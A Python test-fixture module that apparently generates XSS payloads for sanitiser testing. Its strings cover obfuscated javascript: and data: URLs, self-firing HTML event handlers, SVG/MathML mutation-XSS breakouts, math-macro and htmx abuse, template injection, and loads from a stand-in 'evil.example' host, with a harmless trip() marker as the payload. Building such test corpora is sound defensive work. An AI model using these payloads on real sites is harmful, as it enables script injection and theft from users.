"""Texts that would run a script, fetch or lead away if anything of them came through: made here, for every context.

Whatever runs calls `trip()`; whatever is fetched or gone to has `tripwire` in its address.
"""

from collections.abc import Iterator
from itertools import product

RUN = "trip()"
ELSEWHERE = "https://evil.example/tripwire"


def _schemes() -> Iterator[str]:
    """Addresses that run something, in all the ways in which a browser still reads them."""
    spellings = (
        *(
            "javascript:",
            "JaVaScRiPt:",
            " javascript:",
            "\tjavascript:",
            "java\tscript:",
            "java\nscript:",
            "javascript\t:",
        ),
        *("\x01javascript:", "\x1fjavascript:", "\u00a0javascript:", "\u2028javascript:", "\ufeffjavascript:"),
        *("&#106;avascript:", "&#x6A;avascript:", "&#0000106;avascript:", "javascript&colon;", "java&Tab;script:"),
        *(
            "java&NewLine;script:",
            "javascript&#58;",
            "java&#10;script:",
            "%6aavascript:",
            "javascript%3A",
            "\\6aavascript:",
        ),
        *(
            "ｊavascript:",
            "javaſcript:",
            "jav\u200dascript:",
            "\u202ejavascript:",
            "javascript://a%0a",
            "view-source:javascript:",
        ),
        *("feed:javascript:", "livescript:", "vbscript:", "VBSCRIPT:", "&#118;bscript:", "mocha:", "jar:javascript:"),
    )
    yield from (f"{spelling}{RUN}" for spelling in spellings)
    for kind in ("text/html", "text/html;base64", "image/svg+xml", "text/xml", "application/xhtml+xml", ""):
        content = "PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4=" if "base64" in kind else f"<script>{RUN}</script>"
        yield from (f"data:{kind},{content}", f"DaTa:{kind},{content.replace('<', '%3C').replace('>', '%3E')}")
    yield from (
        "blob:https://evil.example/tripwire",
        "filesystem:https://evil.example/tripwire",
        "about:blank#tripwire",
    )
    yield from (
        "intent://tripwire#Intent;end",
        "file:///tripwire",
        "ftp://evil.example/tripwire",
        "ws://evil.example/tripwire",
    )


def _markdown() -> Iterator[str]:
    forms = ("[x]({0})", "[x](<{0}>)", '[x]({0} "title")', "![x]({0})", "<{0}>", "[x]: {0}\n\n[x]", "[![x]({0})]({0})")
    yield from (form.format(address) for address, form in product(_schemes(), forms))
    yield from (
        *(
            f'[x](https://a.example "{break_out}")'
            for break_out in ('" onmouseover="trip()', "'><script>trip()</script>")
        ),
        f'[x](https://a.example" onmouseover="{RUN})',
        f"[x](https://a.example'onfocus='{RUN}'autofocus=')",
        f'[<img src=x onerror="{RUN}">](https://a.example)',
        f"![x]({ELSEWHERE}.png)",
        f"![x][r]\n\n[r]: {ELSEWHERE}.png",
        "[x](//evil.example/tripwire)![y](//evil.example/tripwire.png)",
        f"[^1]\n\n[^1]: <script>{RUN}</script>",
        f"[^<img src=x onerror={RUN}>]: x",
        f"| <script>{RUN}</script> | b |\n|---|---|\n| <img src=x onerror={RUN}> | `<svg onload={RUN}>` |",
        f'| a | b |\n|:-:" onclick="{RUN}|---|\n| c | d |',
        f"`<script>{RUN}</script>`",
        f'``` " onload="{RUN}\nx\n```',
        f"```html\n<script>{RUN}</script>\n```",
        f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"] --> B\nclick A "javascript:{RUN}"\n```',
        "```mermaid\n%%{init: {'securityLevel':'loose'}}%%\ngraph TD; A-->B; click A call trip()\n```",
        f"~~~\n</code></pre><script>{RUN}</script>\n~~~",
        f"    </code></pre><script>{RUN}</script>",
        f"# <script>{RUN}</script>\n\n<h1 onclick={RUN}>x</h1>",
        f"> <script>{RUN}</script>\n> - <img src=x onerror={RUN}>\n>   1. [x](javascript:{RUN})",
        f"**<img src=x onerror={RUN}>** _[x](javascript:{RUN})_ ~~<svg onload={RUN}>~~",
        f"[[<img src=x onerror={RUN}>]] [[SAFE-001]] [[javascript:{RUN}]]",
        f"{{{{c1::<img src=x onerror={RUN}>::<svg onload={RUN}>}}}} and {{{{c2::[x](javascript:{RUN})}}}}",
        f"https://a.example/<script>{RUN}</script> www.a.example\"onclick={RUN} a@b.example'onclick={RUN}",
    )


def _elements() -> Iterator[str]:
    """Raw HTML: elements that act by themselves, with attributes parted in all ways."""
    self_acting = (
        *(
            "img src=x onerror",
            "svg onload",
            "body onload",
            "video src=x onerror",
            "audio src=x onerror",
            "input autofocus onfocus",
        ),
        *(
            "details open ontoggle",
            "select autofocus onfocus",
            "textarea autofocus onfocus",
            "marquee onstart",
            "iframe onload",
        ),
        *(
            "object data=x onerror",
            "embed src=x onerror",
            "link rel=stylesheet href=x onerror",
            "style onload",
            "script src=x onerror",
        ),
        *(
            "video><source onerror",
            "img srcset=x onerror",
            "image src=x onerror",
            "a href=# autofocus onfocus",
            "p tabindex=0 autofocus onfocus",
        ),
        *(
            "div contenteditable autofocus onfocus",
            "x onclick",
            "p onpointerenter",
            "svg><animate attributeName=x dur=1s onbegin",
        ),
        *(
            "p style=animation:x onanimationstart",
            "p style=transition:1s ontransitionend",
            "dialog open onclose",
            "keygen autofocus onfocus",
        ),
    )
    for opening, (before, after) in product(self_acting, (("", ""), ('"', '"'), ("'", "'"), ("`", "`"))):
        yield f"<{opening}={before}{RUN}{after}>"
    for opening in self_acting[:8]:
        yield f"<{opening.replace(' ', '/')}={RUN}//"
        yield f"<{opening.replace(' ', chr(12))}\n=\t{RUN} x"
        yield f"&lt;{opening}={RUN}&gt;"
        yield f"&#60;{opening}={RUN}&#62;"
        yield f"\\<{opening}={RUN}\\>"
        yield f"%3C{opening}={RUN}%3E"
        yield f"\uff1c{opening}={RUN}\uff1e"
        yield f"<\x00{opening}={RUN}>".replace("\x00", "\x0b")
    yield from (
        *(
            f"<script{rest}"
            for rest in (f">{RUN}</script>", f"\n>{RUN}</script\n>", f" src={ELSEWHERE}.js></script>", f">{RUN}<!--")
        ),
        *(
            f"<SCRIPT/x>{RUN}</SCRIPT>",
            f"<scr<script>ipt>{RUN}</scr</script>ipt>",
            f"<script type=module>{RUN}</script>",
        ),
        *(f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"),
        *(f"<iframe src={ELSEWHERE}></iframe>", f"<object data={ELSEWHERE}></object>", f"<embed src={ELSEWHERE}>"),
        *(f"<form action=javascript:{RUN}><button>x</button></form>", f"<button formaction={ELSEWHERE}>x</button>"),
        *(
            f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
            f"<base href={ELSEWHERE}/>",
            f"<link rel=prefetch href={ELSEWHERE}>",
        ),
        *(f"<style>@import '{ELSEWHERE}.css';</style>", f"<p style='background:url({ELSEWHERE}.png)'>x</p>"),
        *(
            f"<link rel=stylesheet href={ELSEWHERE}.css>",
            f"<img src={ELSEWHERE}.png>",
            f"<table background={ELSEWHERE}.png><td>x</table>",
        ),
        *("<div hx-get=/tripwire hx-trigger=load>x</div>", "<div data-hx-get=/tripwire data-hx-trigger=load>x</div>"),
        *(
            f"<div hx-on::load={RUN} hx-on:load={RUN}>x</div>",
            "<div hx-post=/tripwire hx-trigger='every 1ms' hx-swap=none>x</div>",
        ),
        *(
            "<a hx-boost=true href=/tripwire autofocus>x</a>",
            "<hx-partial hx-target=body>x</hx-partial>",
            "<div hx-swap-oob=true id=content>x</div>",
        ),
        *(
            f"<portal src={ELSEWHERE}></portal>",
            f"<a ping={ELSEWHERE} href=x>x</a>",
            "<input form=x type=image src=/tripwire.png>",
        ),
        *(
            f"<template><img src=x onerror={RUN}></template>",
            f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
        ),
        *("<form id=x><input name=attributes><input name=nodeName></form>", "<a id=trip></a><a id=trip name=call></a>"),
    )


def _foreign() -> Iterator[str]:
    """SVG and MathML, and what a parser reads one way and a serialiser writes another."""
    yield from (
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href=data:,{RUN} /></svg>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'/></svg>",
        f"<svg><animate attributeName=href values=javascript:{RUN} /><a id=x><text>x</text></a></svg>",
        f"<svg><set attributeName=onmouseover to={RUN} /></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><image href={ELSEWHERE}.png /></svg>",
        f"<svg><style>@import '{ELSEWHERE}.css'</style></svg>",
        f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<math href=javascript:{RUN}>x</math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    )
    outer = (
        "noscript",
        "noembed",
        "noframes",
        "iframe",
        "xmp",
        "plaintext",
        "title",
        "textarea",
        "style",
        "template",
        "select",
        "svg",
        "math",
    )
    for name, (opening, closing) in product(
        outer,
        (
            ('<p title="', '">'),
            ("<!--", "-->"),
            ("<a id='", "'>"),
            ("<![CDATA[", "]]>"),
            ("<mglyph><style>", "</style>"),
        ),
    ):
        yield f"<{name}>{opening}</{name}><img src=x onerror={RUN}>{closing}"
    for wrapper in (
        "math><mtext><table><mglyph><style",
        "svg></p><style",
        "form><math><mtext></form><form><mglyph><style",
        "math><mi><table><mglyph><style",
    ):
        yield f"<{wrapper}><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
        yield f'<{wrapper}><a title="</style><img src=x onerror={RUN}>">'


def _maths() -> Iterator[str]:
    inside = (
        *(
            rf"\href{{javascript:{RUN}}}{{x}}",
            rf"\url{{javascript:{RUN}}}",
            rf"\href{{{ELSEWHERE}}}{{x}}",
            rf"\url{{{ELSEWHERE}}}",
        ),
        *(
            rf"\includegraphics{{{ELSEWHERE}.png}}",
            rf"\includegraphics[alt=x onerror={RUN}]{{x}}",
            r"\htmlData{hx-get=/tripwire, hx-trigger=load}{x}",
        ),
        *(
            r"\htmlId{trip}{x}",
            r"\htmlClass{btn primary}{x}",
            rf"\htmlStyle{{background:url({ELSEWHERE})}}{{x}}",
            r"\htmlData{x=y}{x}",
        ),
        *(
            rf"\text{{<img src=x onerror={RUN}>}}",
            rf'\text{{" onmouseover="{RUN}}}',
            rf"\text{{</annotation><script>{RUN}</script>}}",
        ),
        *(
            rf"\textcolor{{red;background:url({ELSEWHERE})}}{{x}}",
            rf'\color{{"onclick={RUN}}}x',
            rf"\colorbox{{url({ELSEWHERE})}}{{x}}",
        ),
        *(
            rf"\unicode{{60}}img src=x onerror={RUN}",
            rf"\char60 img src=x onerror={RUN}\char62",
            rf"\tag{{<script>{RUN}</script>}} x",
        ),
        *(
            rf"\def\x{{\href{{javascript:{RUN}}}{{y}}}}\x",
            rf"\newcommand\x{{<script>{RUN}</script>}}\x",
            rf"\operatorname{{<img src=x onerror={RUN}>}}",
        ),
        *(
            rf"<img src=x onerror={RUN}>",
            rf"</span><script>{RUN}</script>",
            rf"\verb|<script>{RUN}</script>|",
            rf"\begin{{<svg onload={RUN}>}}",
            rf"\<svg onload={RUN}>",
        ),
        *(
            r"\rule{99999em}{99999em}",
            rf"\begin{{matrix}}<img src=x onerror={RUN}>&\href{{javascript:{RUN}}}{{x}}\end{{matrix}}",
            rf"\require{{{ELSEWHERE}}}",
        ),
    )
    around = (
        "${0}$",
        "$$\n{0}\n$$",
        "\\({0}\\)",
        '<span class="arithmatex">\\({0}\\)</span>',
        "`${0}$`",
        "[${0}$](https://a.example)",
        "| ${0}$ |\n|---|",
    )
    yield from (form.replace("{0}", formula) for formula, form in product(inside, around))


def _breaking_out() -> Iterator[str]:
    """For what stands in an attribute, a textarea, a title, a script, a style or a template of the page."""
    image = f"<img src=x onerror={RUN}>"
    for end in (
        '">',
        "'>",
        "</textarea>",
        "</title>",
        "</script>",
        "</style>",
        "</pre>",
        "</option></select>",
        "-->",
        "]]>",
        "</svg>",
        "</a>",
        "</button>",
    ):
        yield f"{end}{image}"
        yield f"{end}<svg/onload={RUN}>"
    for quote in ('"', "'", "`", "&quot;", "&#34;", '\\"', "\\x22", "\\u0022"):
        yield f"{quote} autofocus onfocus={quote}{RUN}{quote} x={quote}"
        yield f"{quote};{RUN};//"
        yield f"{quote}-{RUN}-{quote}"
    yield from (
        *(
            "{{constructor.constructor('trip()')()}}",
            "${trip()}",
            "#{trip()}",
            "<%= trip() %>",
            "{%raw%}<script>trip()</script>",
            "{{ trip() }}",
        ),
        *(
            "{{ '<img src=x onerror=trip()>'|safe }}",
            "{% autoescape off %}<svg onload=trip()>{% endautoescape %}",
            "[[trip()]]",
            "*{trip()}",
        ),
        *(
            "\\u003cimg src=x onerror=trip()\\u003e",
            "\\x3cimg src=x onerror=trip()\\x3e",
            "+ADw-script+AD4-trip()+ADw-/script+AD4-",
            "\u2028trip()//",
        ),
        *(
            "\u202e<img src=x onerror=trip()>",
            "<\u200bscript>trip()</script>",
            "<ſcript>trip()</ſcript>",
            "\ufeff<script>trip()</script>",
            "\u3008script\u3009trip()",
        ),
    )


PAYLOADS = tuple(
    dict.fromkeys(text for maker in (_breaking_out, _elements, _foreign, _maths, _markdown) for text in maker())
)
SHORT = tuple(text for text in dict.fromkeys([*_breaking_out(), *_elements()]) if len(text) <= 60)[::4]
"""For a field of one line: what would break out of an attribute or stand as an element."""


def pages_of_payloads(longest: int) -> list[str]:
    """All payloads in texts of at most that length; those that leave a fence or quote open stand last in theirs."""
    texts, lines, size = [], [], 0
    for payload in sorted(PAYLOADS, key=lambda text: ("```" in text or "~~~" in text or "$$" in text, "\n" in text)):
        if lines and size + len(payload) + 2 > longest:
            texts.append("\n\n".join(lines))
            lines, size = [], 0
        lines.append(payload)
        size += len(payload) + 2
    return [*texts, "\n\n".join(lines)]
